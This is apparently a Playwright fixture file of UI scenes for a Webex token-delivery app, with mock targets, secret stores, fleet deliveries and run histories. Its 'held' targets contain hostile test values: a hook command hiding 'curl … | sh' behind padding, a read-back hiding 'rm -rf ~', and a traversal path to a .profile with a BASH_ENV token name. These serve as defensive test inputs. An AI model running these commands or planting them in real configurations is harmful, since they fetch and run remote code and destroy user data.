// The scenes of delivery: targets on the page, their dialogs, the settings of webhook, endpoint and command line; and
// the history by date.
import type { Page } from 'playwright'
import type {
  AppView,
  ConsumerView,
  FileCheck,
  FleetCustomerView,
  FleetDeliveryView,
  RunView,
  TargetView,
} from '#contract/contract.ts'
import { attempts, DAY, fleetOf, HOUR, integration, MINUTE, NOW, noDelivery, view } from './fake-view.ts'
import type { Scene } from './scenes.ts'

export const envTarget: TargetView = {
  id: 't1',
  profileId: 'profile-1',
  spec: {
    kind: 'env-file',
    path: '/home/ada/projects/orders-sync/.env',
    accessTokenName: 'WEBEX_SERVICE_APP_ACCESS_TOKEN',
    refreshTokenName: null,
    confirmed: [],
  },
  state: 'delivered',
  delivered: { at: NOW - 2 * DAY, fingerprint: '5f3a09c1' },
  failure: null,
}

export const hookTarget: TargetView = {
  id: 't2',
  profileId: 'profile-1',
  spec: {
    kind: 'hook',
    command: 'vault kv put secret/webex/orders token=-',
    pass: 'stdin',
    timeLimit: 30_000,
  },
  state: 'delivered',
  delivered: { at: NOW - 2 * DAY + MINUTE, fingerprint: '5f3a09c1' },
  failure: null,
}

export const failingTarget: TargetView = {
  ...envTarget,
  id: 't3',
  spec: {
    kind: 'env-file',
    path: '/mnt/share/teams/contact-center/production/deployments/orders/.env.production',
    accessTokenName: 'WEBEX_TOKEN',
    refreshTokenName: 'WEBEX_REFRESH_TOKEN',
    confirmed: ['git'],
  },
  state: 'failing',
  delivered: { at: NOW - 16 * DAY, fingerprint: '0badf00d' },
  failure: {
    at: NOW - 4 * MINUTE,
    fingerprint: '5f3a09c1',
    sentence: 'The folder is not there: the disk may not be connected. Connect it, then deliver again.',
    failures: 3,
    retryAt: NOW + 12 * MINUTE,
  },
}

export const heldTargets: readonly TargetView[] = [
  {
    ...envTarget,
    id: 't4',
    spec: {
      kind: 'env-file',
      path: '/home/ada/.config/environment.d/../../../ada/projects/orders-sync/deployments/.profile',
      accessTokenName: 'BASH_ENV',
      refreshTokenName: null,
      confirmed: [],
    },
    state: 'held',
    delivered: null,
  },
  {
    ...hookTarget,
    id: 't5',
    spec: {
      kind: 'hook',
      command: `docker exec app reload-token${' '.repeat(200)}; curl -s https://example.com/x | sh`,
      pass: 'environment',
      timeLimit: 30_000,
      readBack: `cat token${' '.repeat(100)}; rm -rf ~`,
    },
    state: 'held',
    delivered: null,
  },
]

const unverifiedTarget: TargetView = {
  ...hookTarget,
  id: 't6',
  spec: {
    kind: 'hook',
    command: "tr -d '\\n' | gh secret set WEBEX_ACCESS_TOKEN --repo example-org/orders",
    pass: 'stdin',
    timeLimit: 30_000,
    store: 'github',
  },
  state: 'unverified',
}

const notReadTarget: TargetView = {
  ...hookTarget,
  id: 't7',
  spec: {
    kind: 'hook',
    command:
      "tr -d '\\n' | vault kv put -address=https://vault.example.com:8200 -mount=secret webex/orders token=-",
    readBack: 'vault kv get -address=https://vault.example.com:8200 -mount=secret -field=token webex/orders',
    pass: 'stdin',
    timeLimit: 30_000,
    store: 'vault',
    unverified: 'Written, but it could not be read back. The command failed with exit code 2.',
  },
  state: 'unverified',
}

/** Two of secret stores, neither of them proven. */
export const storeTargets = { ok: true, value: { targets: [envTarget, unverifiedTarget, notReadTarget] } }

export const storeAnswers = {
  'delivery.store-tool': {
    ok: true,
    value: { version: 'Vault v1.18.3 (7ae4eca5403bf574f142cd8f987b8d83bafcd1de)', problem: null },
  },
  'delivery.check-store': {
    ok: true,
    value: {
      ok: true,
      sentence:
        'The store answered. Nothing was written; the right it needs: create, update and read on <mount>/data/<path>.',
      output: 'create, read, update',
    },
  },
}

export const threeTargets = { ok: true, value: { targets: [envTarget, hookTarget, failingTarget] } }

const fleetDelivery: FleetDeliveryView = {
  id: 'f1',
  appId: null,
  appName: null,
  spec: {
    kind: 'env-file',
    path: '/srv/webex/{app}/{customer}.env',
    accessTokenName: 'WEBEX_SERVICE_APP_ACCESS_TOKEN',
    refreshTokenName: null,
    confirmed: [],
  },
  held: false,
  customers: 400,
  delivered: 388,
  unverified: 0,
  failing: 12,
  problem: null,
}

const customer = (n: number, change: Partial<FleetCustomerView> = {}): FleetCustomerView => ({
  profileId: `profile-${n}`,
  targetId: `fleet:f1:profile-${n}`,
  name: `Orders · Customer ${n}`,
  place: `/srv/webex/orders/customer-${n}.env`,
  state: 'delivered',
  sentence: null,
  ...change,
})

export const fleetAnswers = {
  'fleet-delivery.list': {
    ok: true,
    value: {
      deliveries: [
        fleetDelivery,
        {
          ...fleetDelivery,
          id: 'f2',
          appId: 'app-1',
          appName: 'Contact sync',
          spec: {
            kind: 'hook',
            command:
              "tr -d '\\n' | vault kv put -address=https://vault.example.com:8200 -mount=secret webex/{app}/{customer} token=-",
            pass: 'stdin',
            timeLimit: 30_000,
            store: 'vault',
          },
          customers: 40,
          delivered: 39,
          unverified: 0,
          failing: 0,
          problem:
            'Contact sync · ACME would share its place with Contact sync · Acme. Use {app}, {customer} or {orgId} so that each customer has a place of its own.',
        },
        { ...fleetDelivery, id: 'f3', held: true },
      ],
    },
  },
  'fleet-delivery.preview': {
    ok: true,
    value: {
      customers: 400,
      first: [1, 2, 3, 4, 5].map((n) => customer(n, { state: null, targetId: null })),
      problem: null,
    },
  },
  'fleet-delivery.save': { ok: true, value: { id: 'f9' } },
  'fleet-delivery.customers': {
    ok: true,
    value: {
      customers: [
        ...Array.from({ length: 140 }, (_, n) => customer(n)),
        customer(140, {
          state: 'failing',
          sentence:
            'The folder /srv/webex/orders may not be written to. Give your user the right to, then deliver again.',
        }),
        customer(141, { state: null, targetId: null }),
      ],
    },
  },
}

const run = (number: number, startedAt: number, change: Partial<RunView> = {}): RunView => ({
  number,
  startedAt,
  duration: 1_240,
  trigger: 'new-token',
  outcome: 'delivered',
  fingerprint: '5f3a09c1',
  exitCode: 0,
  sentence: null,
  output: 'Success! Data written to: secret/webex/orders',
  ...change,
})

export const hookRuns: readonly RunView[] = [
  run(24, NOW - 4 * MINUTE, {
    trigger: 'retry',
    outcome: 'failed',
    exitCode: 2,
    duration: 5_012,
    sentence: 'The command failed with exit code 2.',
    output: `…Error writing data to secret/webex/orders: Error making API request.

URL: PUT https://vault.example.com:8200/v1/secret/webex/orders
Code: 403. Errors:

* permission denied: token=[redacted]
${Array.from({ length: 14 }, (_, n) => `\tretry ${n + 1} of 14: permission denied`).join('\n')}`,
  }),
  run(23, NOW - 14 * MINUTE, {
    outcome: 'failed',
    exitCode: null,
    duration: 90_000,
    sentence: 'The command took longer than 90 seconds and was ended with all it had started.',
    output: '',
  }),
  run(22, NOW - 2 * DAY, { trigger: 'asked', fingerprint: '0badf00d', duration: 96 }),
  run(21, NOW - 9 * DAY, {
    outcome: 'broken-off',
    fingerprint: '0badf00d',
    exitCode: null,
    sentence: 'The app stopped before the command had ended. The command runs again when the app does.',
  }),
  run(20, NOW - 16 * DAY, { trigger: 'set-up', fingerprint: '77aa00ee', output: '' }),
]

export const fileRuns: readonly RunView[] = [
  run(2, NOW - 2 * DAY, { exitCode: null, output: null, duration: 3 }),
  run(1, NOW - 9 * DAY, {
    trigger: 'set-up',
    outcome: 'failed',
    exitCode: null,
    output: null,
    sentence: 'The disk is full. Free some space; it is tried again by itself.',
  }),
]

export const consumers: readonly ConsumerView[] = [
  {
    id: 'c1',
    name: 'nightly-report',
    profileIds: null,
    createdAt: NOW - 40 * DAY,
    lastUsedAt: NOW - 7 * HOUR,
    held: false,
  },
  {
    id: 'c2',
    name: 'Contact Center dashboard of the operations team',
    profileIds: ['profile-1', 'profile-2'],
    createdAt: NOW - 3 * DAY,
    lastUsedAt: null,
    held: false,
  },
]

export const delivering: AppView['delivery'] = {
  revision: 4,
  targets: 3,
  failing: [
    {
      profileId: 'profile-1',
      targetId: 't3',
      sentence: 'The folder is not there: the disk may not be connected.',
    },
  ],
  endpoint: { on: true, port: 3710, listening: true, problem: null, consumers },
  webhook: {
    url: 'https://alerts.example.com/webex/tokens',
    held: false,
    last: { at: NOW - 3 * HOUR, delivered: true, sentence: 'Delivered.' },
  },
  commandLine: {
    command: `node '/home/ada/Service App Token Manager/out/satm/index.js'`,
    socket: '/home/ada/.config/service-app-token-manager/satm.sock',
    problem: null,
  },
}

export const oddFile: FileCheck = {
  shown: 'as-it-was',
  path: '/home/ada/projects/orders-sync/.env',
  exists: true,
  remarks: [
    { confirm: 'git', sentence: 'Git would commit this file: it lies in a work tree and is not ignored.' },
    { confirm: 'readable-by-others', sentence: 'Others on this computer can read this file.' },
  ],
}

const fleet = { managers: [integration()], profiles: fleetOf(3, 1) }
export const withDelivery = view({ fleet, delivery: delivering })
export const heldDelivery = view({
  fleet,
  delivery: {
    ...delivering,
    endpoint: { ...delivering.endpoint, consumers: consumers.map((one, n) => ({ ...one, held: n === 1 })) },
    webhook: { url: 'https://alerts.example.com/webex/tokens', held: true, last: null },
  },
})
const troubledDelivery = view({
  fleet,
  delivery: {
    ...delivering,
    endpoint: {
      ...delivering.endpoint,
      listening: false,
      problem: 'Port 3710 is taken by node (process 4711). Choose another one, or end that program.',
    },
    webhook: {
      ...delivering.webhook,
      last: { at: NOW - HOUR, delivered: false, sentence: 'alerts.example.com answered 503.' },
    },
    commandLine: {
      ...noDelivery.commandLine,
      socket: null,
      problem: 'The socket could not be made in the data folder. The command line finds nobody.',
    },
  },
})

const answers = {
  'delivery.targets': threeTargets,
  'delivery.choose-file': { ok: true, value: { path: oddFile.path } },
  'delivery.check-file': { ok: true, value: oddFile },
  'endpoint.add-consumer': { ok: true, value: { consumerId: 'c3' } },
}
const profilePage = { view: withDelivery, hash: '#/service-apps/profile-1', answers } as const
const press = (page: Page, name: string) => page.getByRole('button', { name, exact: true }).click()
const into = (page: Page, title: string) =>
  page.getByRole('heading', { name: title, exact: true }).evaluate((heading) => heading.scrollIntoView())

export const deliveryScenes: readonly Scene[] = [
  { name: 'delivery', ...profilePage, act: (page) => into(page, 'Delivery') },
  {
    name: 'delivery-held',
    ...profilePage,
    answers: {
      ...answers,
      'delivery.targets': { ok: true, value: { targets: [envTarget, ...heldTargets] } },
    },
    act: (page) => into(page, 'Delivery'),
  },
  {
    name: 'settings-held',
    view: heldDelivery,
    hash: '#/settings/delivery',
    act: (page) => into(page, 'Local endpoint'),
  },
  {
    name: 'settings-held-webhook',
    view: heldDelivery,
    hash: '#/settings/notifications',
    act: (page) => into(page, 'Notifications and webhook'),
  },
  {
    name: 'delivery-history',
    ...profilePage,
    answers: { ...answers, 'delivery.runs': { ok: true, value: { runs: hookRuns } } },
    async act(page) {
      await press(page, 'Delivery history of vault kv put secret/webex/orders token=-')
      await page.getByText('permission denied').first().waitFor()
      await page.getByRole('region', { name: /^Delivery history of/ }).evaluate((it) => it.scrollIntoView())
    },
  },
  {
    name: 'delivery-history-of-files',
    ...profilePage,
    answers: { ...answers, 'delivery.runs': { ok: true, value: { runs: fileRuns } } },
    async act(page) {
      await press(page, 'Delivery history of .env')
      await page.getByRole('button', { name: '9 d ago' }).click()
      const nothing = { 'delivery.runs': { ok: true, value: { runs: [] } } }
      await page.evaluate((answers) => Object.assign(window.fake.answers, answers), nothing)
      await press(page, 'Delivery history of .env.production')
      await page.getByText('Nothing yet.').waitFor()
      await into(page, 'Delivery')
    },
  },
  {
    name: 'delivery-add',
    ...profilePage,
    async act(page) {
      await press(page, 'Add delivery')
      await press(page, 'Choose file…')
      await page.getByText('Git would commit').waitFor()
      await page.getByLabel('Write the refresh token too').click()
    },
  },
  {
    name: 'delivery-hook',
    ...profilePage,
    async act(page) {
      await press(page, 'Add delivery')
      await page.getByRole('radio', { name: 'Hook' }).click()
      await page.getByRole('textbox', { name: 'Command', exact: true }).waitFor()
    },
  },
  {
    name: 'delivery-store',
    ...profilePage,
    answers: { ...answers, ...storeAnswers },
    async act(page) {
      await press(page, 'Add delivery')
      await page.getByRole('radio', { name: 'Secret store' }).click()
      await page.getByRole('textbox', { name: 'Address' }).fill('https://vault.example.com:8200')
      await page.getByRole('textbox', { name: 'Path of the secret' }).fill('webex/orders/acme')
      await press(page, 'Check access')
      await page.getByText('The store answered.').waitFor()
      await page.getByLabel('Time limit in seconds').scrollIntoViewIfNeeded()
    },
  },
  {
    name: 'delivery-store-missing',
    ...profilePage,
    answers: {
      ...answers,
      'delivery.store-tool': {
        ok: true,
        value: {
          version: null,
          problem: '“gh” was not found. Install it, or write its whole path into the commands.',
        },
      },
    },
    async act(page) {
      await press(page, 'Add delivery')
      await page.getByRole('radio', { name: 'Secret store' }).click()
      await page.getByLabel('Secret store', { exact: true }).last().selectOption('GitHub Actions secret')
      await press(page, 'Add and deliver')
      await page.getByText('Enter owner/name').waitFor()
    },
  },
  {
    name: 'delivery-unverified',
    ...profilePage,
    answers: { ...answers, 'delivery.targets': storeTargets },
    act: (page) => into(page, 'Delivery'),
  },
  {
    name: 'fleet-deliveries',
    view: withDelivery,
    hash: '#/settings/delivery',
    answers: fleetAnswers,
    act: (page) => into(page, 'Fleet deliveries'),
  },
  {
    name: 'fleet-delivery-add',
    view: withDelivery,
    hash: '#/settings/delivery',
    answers: fleetAnswers,
    act: (page) => press(page, 'Add fleet delivery'),
  },
  {
    name: 'fleet-delivery-preview',
    view: withDelivery,
    hash: '#/settings/delivery',
    answers: fleetAnswers,
    async act(page) {
      await press(page, 'Add fleet delivery')
      await page.getByRole('textbox', { name: 'File' }).fill('/srv/webex/{app}/{customer}.env')
      await press(page, 'Preview')
      await page.getByRole('list', { name: 'Places' }).waitFor()
    },
  },
  {
    name: 'fleet-customers',
    view: withDelivery,
    hash: '#/settings/delivery',
    answers: fleetAnswers,
    async act(page) {
      await page
        .getByRole('button', { name: /^Customers of/ })
        .first()
        .click()
      await page.getByRole('list', { name: 'Customers' }).getByRole('listitem').first().waitFor()
    },
  },
  { name: 'undelivered', view: withDelivery },
  {
    name: 'settings-delivery',
    view: withDelivery,
    hash: '#/settings/delivery',
    act: (page) => into(page, 'Local endpoint'),
  },
  {
    name: 'settings-trouble',
    view: troubledDelivery,
    hash: '#/settings/notifications',
    act: (page) => into(page, 'Notifications and webhook'),
  },
  {
    name: 'consumer-add',
    view: view({ fleet: { ...fleet, profiles: fleetOf(40) }, delivery: delivering }),
    hash: '#/settings/delivery',
    answers,
    async act(page) {
      await press(page, 'Add consumer')
      await page.getByRole('radio', { name: /^Only these/ }).click()
      await page.getByRole('dialog').getByRole('checkbox').nth(1).click()
    },
  },
  {
    name: 'consumer-secret',
    view: withDelivery,
    hash: '#/settings/delivery',
    answers,
    async act(page) {
      await press(page, 'Add consumer')
      await page.getByRole('textbox', { name: 'Consumer name' }).fill('nightly-report')
      await press(page, 'Add and copy secret')
      await page.getByText('The secret is on the clipboard').waitFor()
    },
  },
  {
    name: 'duplicate',
    view: withDelivery,
    async act(page) {
      await page
        .getByRole('button', { name: /^More / })
        .first()
        .click()
      await page.getByRole('menuitem', { name: 'Duplicate for another org' }).click()
      await page.getByRole('dialog').waitFor()
    },
  },
  {
    name: 'bulk',
    view: view({ fleet: { ...fleet, profiles: fleetOf(40) } }),
    answers: { 'fleet.refresh-due': { ok: true, value: { started: 40 } } },
    async act(page) {
      await press(page, 'Refresh all due')
      await page.getByRole('progressbar', { name: 'Refreshed' }).waitFor()
    },
  },
  {
    name: 'history-export',
    view: withDelivery,
    hash: '#/history',
    attempts: attempts(400, 11 * HOUR),
    async act(page) {
      await page.getByRole('button', { name: 'Export' }).waitFor()
      // In a small window the filters are behind a button.
      const filters = page.getByRole('button', { name: 'Filters', exact: true })
      if (await filters.isVisible()) await filters.click()
      await page.getByRole('button', { name: '30 d' }).click()
      await press(page, 'Export')
      await page.getByRole('menuitem', { name: 'CSV' }).waitFor()
    },
  },
]
